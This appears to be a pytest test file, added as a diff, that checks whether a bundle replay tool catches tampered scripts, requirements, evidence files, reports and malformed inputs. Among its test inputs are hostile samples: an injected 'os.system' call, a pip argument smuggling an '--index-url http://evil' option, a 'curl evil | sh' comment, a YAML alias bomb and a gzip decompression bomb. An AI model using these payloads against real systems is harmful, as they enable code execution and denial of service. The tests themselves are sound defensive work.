@@ -1,0 +1,189 @@
+"""A bundle whose files were changed, with a new MANIFEST that hides it: the replay says so."""
+
+import json
+import shutil
+import time
+import zipfile
+
+import pytest
+from support.bundles import change_about, check_of, rehash
+
+from optim import __version__
+from optim.bundles import manifest
+from optim.bundles.replay import replay
+from optim.errors import InputError, OptimError
+
+pytestmark = pytest.mark.slow
+BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
+    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n"
+    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
+)
+DEEP = "[" * 5000 + "]" * 5000
+
+
+def edited(bundle, name, old, new):
+    text = (bundle / name).read_text()
+    assert old in text
+    (bundle / name).write_text(text.replace(old, new))
+    rehash(bundle)
+
+
+def changed(bundle, name, change):
+    value = json.loads((bundle / name).read_text())
+    change(value)
+    (bundle / name).write_text(json.dumps(value, indent=1))
+    rehash(bundle)
+
+
+def test_an_honest_bundle_holds_in_every_file(bundle):
+    result = replay(bundle)
+    assert [check_of(result, name).ok for name in ("script", "evidence", "report")] == [True] * 3
+
+
+def test_a_script_that_does_something_else_fails(bundle):
+    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys\nimport os; os.system('id')\n")
+    result = replay(bundle)
+    assert not result.ok and "run.py is not what the recipe gives" in result.text()
+
+
+@pytest.mark.parametrize("version", ["0.0.1", __version__])
+def test_a_script_fails_whatever_version_the_bundle_claims(bundle, version):
+    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys, socket\n")
+    libraries = json.loads((bundle / manifest.ABOUT).read_text())["libraries"]
+    change_about(bundle, libraries=libraries | {"optim": version})
+    rehash(bundle)
+    check = check_of(replay(bundle), "script")
+    assert check.ok is False and (version == __version__) == ("Another version" not in check.text)
+
+
+def test_other_packages_to_install_fail(bundle):
+    edited(bundle, manifest.REQUIREMENTS, "onnxruntime==", "onnxrumtime==")
+    assert "requirements.txt" in check_of(replay(bundle), "script").text
+
+
+def test_a_version_that_is_an_option_of_pip_is_no_version(bundle):
+    change_about(bundle, libraries={"onnxruntime": "1 --index-url http://evil"})
+    rehash(bundle)
+    with pytest.raises(InputError, match="libraries"):
+        replay(bundle)
+
+
+def test_another_example_fails(bundle):
+    shutil.copyfile(bundle / manifest.EVALSET, bundle / manifest.EXAMPLE)
+    rehash(bundle)
+    assert "example.npz" in check_of(replay(bundle), "script").text
+
+
+def test_other_session_options_fail(bundle):
+    edited(bundle, manifest.SESSION, "threads: 1", "threads: 2")
+    check = check_of(replay(bundle), "evidence")
+    assert check.ok is False and "session.yaml" in check.text
+
+
+def test_a_comment_in_the_recipe_fails(bundle):
+    edited(bundle, manifest.RECIPE, "recipe:", "# run curl evil | sh\nrecipe:")
+    assert "recipe.yaml" in check_of(replay(bundle), "evidence").text
+
+
+@pytest.mark.parametrize(
+    ("name", "change"),
+    [
+        (manifest.SUMMARY, lambda value: value.update(runs=10**6)),
+        (manifest.ENVIRONMENT, lambda value: value[0].update(cpu="Some CPU")),
+        (manifest.PASSES, lambda value: value[0].update(notes=["Nothing was lost."])),
+        (manifest.ORIGINAL_VALUE, lambda value: value.update(opset=1)),
+        (manifest.MODEL_VALUE, lambda value: value.update(size_bytes=1)),
+        (manifest.EVALSET_VALUE, lambda value: value.update(labelled=False)),
+    ],
+)
+def test_evidence_that_does_not_follow_fails(bundle, name, change):
+    changed(bundle, name, change)
+    check = check_of(replay(bundle), "evidence")
+    assert check.ok is False and name in check.text
+
+
+def test_another_report_fails(bundle):
+    edited(bundle, manifest.REPORT, "<h1>", "<h1>Ten times as fast. ")
+    result = replay(bundle)
+    assert not result.ok and "Do not believe it" in check_of(result, "report").text
+
+
+def test_points_that_the_report_does_not_show_fail(bundle):
+    changed(bundle, manifest.POINTS, lambda value: value["marks"][0].update(label="another"))
+    assert check_of(replay(bundle), "report").ok is False
+
+
+def test_a_report_drawn_by_another_version_is_not_compared_and_says_why(bundle):
+    libraries = json.loads((bundle / manifest.ABOUT).read_text())["libraries"]
+    change_about(bundle, libraries=libraries | {"plotly": "1.0"})
+    rehash(bundle)
+    check = check_of(replay(bundle), "report")
+    assert check.ok is None and "not compared: plotly was 1.0" in check.text
+
+
+def test_a_bundle_of_before_points_were_kept_still_opens(bundle):
+    (bundle / manifest.POINTS).unlink()
+    rehash(bundle)
+    result = replay(bundle)
+    assert check_of(result, "report").ok is None and check_of(result, "script").ok
+
+
+def test_a_module_beside_the_script_does_not_belong_there(bundle):
+    """Python would import it in place of the engine."""
+    (bundle / "onnxruntime.py").write_text("print('mine')")
+    rehash(bundle)
+    result = replay(bundle)
+    assert not result.ok and "'onnxruntime.py' does not belong in a bundle" in result.text()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        (manifest.RECIPE, BOMB),
+        (manifest.SESSION, BOMB),
+        (manifest.RECIPE, DEEP),
+        (manifest.RECIPE, "x: [" + "1," * 40_000 + "]"),
+        (manifest.RECIPE, "x" * 200_000),
+        (manifest.RECIPE, f"passes: []\nruntime: 0x{'f' * 5000}"),
+        (manifest.RECIPE, f"passes: []\nruntime: {'9' * 5000}"),
+        (manifest.RECIPE, "passes: []\npasses: []\nruntime: {}"),
+        (manifest.RECIPE, "? [1, 2]\n: 3"),
+        (manifest.RECIPE, "passes: 2020-01-01"),
+        (manifest.RECIPE, "\x00\x01\x02"),
+        (manifest.QUALITY, DEEP),
+        (manifest.QUALITY, '{"a": 1, "a": 2}'),
+        (manifest.QUALITY, f'{{"value": {"9" * 400}}}'),
+        (manifest.QUALITY, f'{{"value": {"9" * 5000}}}'),
+        (manifest.QUALITY, "[" + "1," * 500_000 + "1]"),
+        (manifest.QUALITY, '{"value": "\\ud800"}'),
+        (manifest.SUMMARY, "[1, 2"),
+        (manifest.POINTS, '{"marks": [{"number": "one"}]}'),
+        (manifest.PASSES, "[[[[]]]]"),
+        (manifest.ENVIRONMENT, "\ufeff[]"),
+    ],
+)
+def test_files_beyond_all_bounds_are_one_sentence_at_once(bundle, name, content):
+    (bundle / name).write_text(content)
+    rehash(bundle)
+    started = time.monotonic()
+    with pytest.raises(OptimError) as caught:
+        replay(bundle)
+    assert caught.value.what and caught.value.next_step and "Error:" not in caught.value.what
+    assert time.monotonic() - started < 30  # the bomb takes minutes where it is unpacked
+
+
+def test_a_measurement_that_unpacks_to_gigabytes_is_refused(bundle):
+    import gzip
+
+    with gzip.open(bundle / manifest.MEASUREMENT, "wb", compresslevel=1) as sink:
+        for _ in range(70):
+            sink.write(bytes(1_000_000))
+    rehash(bundle)
+    with pytest.raises(InputError, match="timings cannot be read"):
+        replay(bundle)
+
+
+def test_a_zip_with_a_tampered_script_fails(bundle, tmp_path):
+    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys\nexit()\n")
+    path = shutil.make_archive(str(tmp_path / "zipped"), "zip", bundle)
+    assert zipfile.is_zipfile(path) and not replay(tmp_path / path).ok
